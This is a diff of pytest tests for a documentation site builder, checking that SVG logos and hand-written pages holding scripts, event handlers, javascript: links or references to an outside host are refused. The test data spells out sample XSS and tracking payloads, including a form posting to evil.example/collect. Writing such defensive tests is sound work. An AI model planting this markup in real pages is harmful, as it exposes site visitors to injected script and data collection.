@@ -539,7 +539,7 @@ REDIRECT = '<meta http-equiv="refresh" content="0;url=https://evil.example/">'
     ("  generator: false", "  generator: false\n  alternate:\n    - name: French\n      link: 'javascript:alert(2)'\n      lang: fr",
      "a javascript: address"),
     ("  generator: false", "  generator: false\n  polyfills:\n    - https://cdn.example.net/polyfill.js",
-     "which would load from another site"),
+     "which would reach another site"),
 ], ids=["extra.scope", "extra.homepage", "extra.alternate", "extra.polyfills"])
 def test_a_setting_the_theme_prints_as_html_cannot_smuggle_anything_in(tmp_path, old, new, words):
     project = make_project(tmp_path / "p", settings={old: new})
@@ -547,6 +547,63 @@ def test_a_setting_the_theme_prints_as_html_cannot_smuggle_anything_in(tmp_path,
     assert result.returncode == 1, result.output
     assert words in result.output and "remove it" in result.output
     assert "Traceback" not in result.output and not (project / "site").exists()
+
+
+SVG = '<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 24 24">{}<path d="M3 6h18v2H3z"/></svg>'
+
+
+@pytest.mark.parametrize("inside, words", [
+    ("<script>document.title='pwned'</script>", "a <script> element"),
+    ('<g onload="document.title=1"></g>', "an event handler (onload=)"),
+    ('<image href="https://evil.example/track.png" width="1" height="1"/>', "which points outside the picture"),
+    ('<use xlink:href="https://evil.example/sprite.svg#a"/>', "which points outside the picture"),
+    ('<foreignObject><div xmlns="http://www.w3.org/1999/xhtml">x</div></foreignObject>', "a <foreignobject> element"),
+    ('<rect style="fill:url(https://evil.example/p.svg#g)" width="2" height="2"/>', "a style with url("),
+    ('<a href="javascript:alert(1)"><rect width="2" height="2"/></a>', "a javascript: address"),
+], ids=["script", "handler", "image", "use", "foreignObject", "style", "javascript"])
+def test_an_svg_in_docs_that_could_run_or_track_is_refused(tmp_path, inside, words):
+    """Opened on its own, an SVG is a page: a logo with a script ran it on the
+    site's own domain, with no policy on a host that cannot send headers."""
+    project = make_project(tmp_path / "p")
+    (project / "docs/assets/logo.svg").write_text(SVG.format(inside), encoding="utf-8")
+    site = project / "site"
+    site.mkdir()
+    (site / "index.html").write_text("the last good site", encoding="utf-8")
+    result = build(project)
+    assert result.returncode == 1, result.output
+    assert "docs/assets/logo.svg holds" in result.output and words in result.output, result.output
+    assert "Traceback" not in result.output
+    assert sorted(p.name for p in site.iterdir()) == ["index.html"]
+
+
+def test_an_svg_with_only_shapes_inner_references_and_an_embedded_picture_is_published(tmp_path):
+    project = make_project(tmp_path / "p")
+    inside = ('<defs><linearGradient id="g"><stop offset="0" stop-color="#fff"/></linearGradient></defs>'
+              '<use href="#g"/><rect style="fill:url(#g)" width="2" height="2"/>'
+              '<image href="data:image/png;base64,iVBORw0KGgo=" width="1" height="1"/>')
+    (project / "docs/assets/logo.svg").write_text(SVG.format(inside), encoding="utf-8")
+    result = build(project)
+    assert result.returncode == 0, result.output
+
+
+@pytest.mark.parametrize("markup, words", [
+    ('<form action="https://evil.example/collect"><button>Send</button></form>', '<form action="https://evil.example/collect">'),
+    ('<form><button formaction="https://evil.example/c">Send</button></form>', "<button formaction="),
+    ('<video poster="https://evil.example/p.png"></video>', "<video poster="),
+    ('<a href="/x/" ping="https://evil.example/p">x</a>', "<a ping="),
+    ('<svg><use href="https://evil.example/s.svg#a"/></svg>', "<use href="),
+    ('<p style="background:url(https://evil.example/b.png)">x</p>', "a style with url(https://evil.example/b.png)"),
+], ids=["form", "formaction", "poster", "ping", "svg-use", "style-url"])
+def test_a_hand_written_page_that_would_reach_another_site_is_refused(tmp_path, markup, words):
+    """The policy would block each of these; the build refuses them first, so a
+    page never depends on the policy being there (a <meta> can be lost in a copy)."""
+    project = make_project(tmp_path / "p")
+    page = project / "docs/about-reviews.md"
+    page.write_text(page.read_text(encoding="utf-8") + "\n\n" + markup + "\n", encoding="utf-8")
+    result = build(project)
+    assert result.returncode == 1, result.output
+    assert "The page made from about-reviews.md holds" in result.output and words in result.output, result.output
+    assert "Traceback" not in result.output
 
 
 def test_navigation_titles_are_text(tmp_path):
